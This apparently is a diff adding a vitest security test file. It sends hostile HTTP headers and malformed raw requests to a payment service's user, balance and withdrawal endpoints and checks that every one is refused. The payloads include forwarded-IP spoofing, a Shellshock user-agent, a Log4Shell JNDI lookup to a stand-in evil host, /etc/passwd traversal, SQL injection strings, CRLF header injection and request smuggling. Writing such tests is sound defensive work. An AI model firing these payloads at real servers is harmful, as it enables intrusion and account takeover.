@@ -1,0 +1,154 @@
+import { afterAll, beforeAll, describe, it } from 'vitest';
+import type { Mallory } from './mallory.ts';
+import { each } from './trial.ts';
+import { World } from './world.ts';
+
+let world: World;
+let mallory: Mallory;
+beforeAll(async () => {
+  world = await World.open();
+  mallory = await world.mallory();
+});
+afterAll(() => world.close());
+
+const get = (path: string, headers: Record<string, string | string[]> = {}) =>
+  world.line.send({ method: 'GET', path, headers });
+
+describe('headers', () => {
+  const EVIL = 'evil.example';
+  const TRICKS: Record<string, string | string[]>[] = [
+    ...[
+      '127.0.0.1',
+      '::1',
+      '10.0.0.1',
+      'localhost',
+      `127.0.0.1, ${EVIL}`,
+      "' OR 1=1",
+      '[object Object]',
+      'x'.repeat(3_000),
+    ].flatMap((from) => [
+      { 'x-forwarded-for': from },
+      { 'x-real-ip': from },
+      { 'client-ip': from },
+      { 'true-client-ip': from },
+    ]),
+    { forwarded: 'for=127.0.0.1;by=127.0.0.1;host=localhost' },
+    ...['x-forwarded-host', 'x-host', 'x-forwarded-server', 'x-original-host', 'origin', 'referer'].map(
+      (name) => ({ [name]: `https://${EVIL}` }),
+    ),
+    ...['x-original-url', 'x-rewrite-url', 'x-forwarded-path', 'x-forwarded-prefix', 'x-override-url'].map(
+      (name) => ({ [name]: '/main/user' }),
+    ),
+    { 'x-forwarded-proto': 'javascript' },
+    { 'x-user-id': '1', 'user-id': '1', 'x-admin': 'true', 'x-internal': '1' },
+    { authorization: 'Basic YWRtaW46YWRtaW4=' },
+    { cookie: 'admin=1; main_token=x; session=x' },
+    { 'cf-ipcountry': 'XX', 'x-country': 'XX' },
+    { accept: '../../etc/passwd', 'accept-language': "' OR 1=1 --", 'accept-encoding': 'x'.repeat(2_000) },
+    { 'user-agent': `() { :; }; echo ${EVIL}` },
+    { 'user-agent': `\${jndi:ldap://${EVIL}/a}` },
+    { 'if-none-match': '*', 'if-modified-since': 'x', range: 'bytes=0-9999999999' },
+    { 'access-control-request-method': 'PUT', origin: `https://${EVIL}` },
+    { expect: '100-continue' },
+    { te: 'trailers' },
+    { via: `1.1 ${EVIL}`, connection: 'keep-alive, main_token' },
+    { 'x-big': 'x'.repeat(15_000) },
+    { 'x-big': 'x'.repeat(20_000) },
+    Object.fromEntries(Array.from({ length: 1_500 }, (_, i) => [`x-${i}`, 'y'])),
+    Object.fromEntries(Array.from({ length: 5_000 }, (_, i) => [`x-${i}`, 'y'])),
+  ];
+
+  it('open nothing, and are not repeated', async () => {
+    const paths = [
+      '/main/user',
+      '/main/user/brief',
+      '/main/balance/summary',
+      '/main/pay/info',
+      '/main/withdraw/info',
+    ];
+    await each(
+      TRICKS.flatMap((headers) => paths.map((path) => [headers, path] as const)),
+      async ([headers, path]) => {
+        const answer = await get(path, headers);
+        const what = `${path} with ${JSON.stringify(headers).slice(0, 60)}`;
+        world.trial.judge(what, answer, 'refused');
+        const told = JSON.stringify(answer.headers) + answer.text;
+        world.trial.hold(`${what} repeats nothing`, !told.includes(EVIL), told);
+        world.trial.hold(
+          `${what} lets no other site read`,
+          answer.headers['access-control-allow-origin'] === undefined,
+        );
+      },
+    );
+    world.trial.settle();
+  });
+
+  it('make nobody near whom a proxy stands before', async () => {
+    for (const path of ['/metrics', '/sandbox/outbox', '/sandbox/payments', '/sandbox/outbox.css'])
+      for (const from of ['127.0.0.1', '::1', '10.0.0.1', '203.0.113.1', '127.0.0.1, 127.0.0.1', 'x', ''])
+        for (const name of ['x-forwarded-for', 'forwarded'])
+          world.trial.judge(`${path} with ${name}: ${from}`, await get(path, { [name]: from }), 'refused');
+    world.trial.settle();
+  });
+
+  it('that end early or bring a second request with them bring nothing', async () => {
+    const host = 'Host: kilat\r\n';
+    const smuggled = `GET /main/user HTTP/1.1\r\n${host}main_token: ${mallory.token}\r\n\r\n`;
+    const lines: [string, string][] = [
+      [
+        'a line feed in a value',
+        `GET /main/user HTTP/1.1\r\n${host}X: a\nmain_token: ${mallory.token}\r\nConnection: close\r\n\r\n`,
+      ],
+      [
+        'a carriage return in a value',
+        `GET /main/user HTTP/1.1\r\n${host}X: a\rmain_token: ${mallory.token}\r\nConnection: close\r\n\r\n`,
+      ],
+      [
+        'a second line in the path',
+        `GET /main/user%0d%0amain_token:%20${mallory.token} HTTP/1.1\r\n${host}Connection: close\r\n\r\n`,
+      ],
+      ['a blank in the path', `GET /main/user x HTTP/1.1\r\n${host}Connection: close\r\n\r\n`],
+      ['no version', `GET /main/user\r\n${host}\r\n`],
+      ['version 9', `GET /main/user HTTP/9.9\r\n${host}Connection: close\r\n\r\n`],
+      ['HTTP/2', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'],
+      ['TLS', '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03'],
+      ['no host', 'GET /main/user HTTP/1.1\r\nConnection: close\r\n\r\n'],
+      ['two hosts', `GET /main/user HTTP/1.1\r\n${host}Host: ${EVIL}\r\nConnection: close\r\n\r\n`],
+      ['a tunnel', `CONNECT ${EVIL}:443 HTTP/1.1\r\nHost: ${EVIL}\r\n\r\n`],
+      ['another protocol', `GET /main/user HTTP/1.1\r\n${host}Upgrade: h2c\r\nConnection: Upgrade\r\n\r\n`],
+      [
+        'a channel elsewhere',
+        `GET /main/user HTTP/1.1\r\n${host}Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: x\r\n\r\n`,
+      ],
+      [
+        'a name with a blank',
+        `GET /main/user HTTP/1.1\r\n${host}main_token : ${mallory.token}\r\nConnection: close\r\n\r\n`,
+      ],
+      [
+        'a folded header',
+        `GET /main/user HTTP/1.1\r\n${host}X: a\r\n main_token: ${mallory.token}\r\nConnection: close\r\n\r\n`,
+      ],
+      ['a header of noughts', `GET /main/user HTTP/1.1\r\n${host}X: \0\0\0\r\nConnection: close\r\n\r\n`],
+      ['100 kB of one header', `GET /main/user HTTP/1.1\r\n${host}X: ${'y'.repeat(100_000)}\r\n\r\n`],
+      ['100 kB of path', `GET /main/${'y'.repeat(100_000)} HTTP/1.1\r\n${host}\r\n`],
+      ['noise', 'nonsense\r\n\r\n'],
+    ];
+    for (const [what, bytes] of lines) world.trial.judgeRaw(what, await world.line.raw(bytes), 'refused');
+    // What hides in a body that is refused is no request of its own.
+    for (const coding of [
+      'Content-Length: 6\r\nTransfer-Encoding: chunked',
+      'Transfer-Encoding: chunked\r\nTransfer-Encoding: x',
+      'Transfer-Encoding: chunked, x',
+      'Transfer-Encoding: \x0bchunked',
+      'Content-Length: 6, 6',
+      'Content-Length: +6',
+      'Content-Length: 0x6',
+    ]) {
+      const text = await world.line.raw(
+        `POST /main/user HTTP/1.1\r\n${host}Content-Type: application/json\r\n${coding}\r\n\r\n0\r\n\r\n${smuggled}`,
+      );
+      world.trial.judgeRaw(`a second request behind ${coding.slice(0, 40)}`, text, 'refused');
+    }
+    world.trial.settle();
+  });
+});
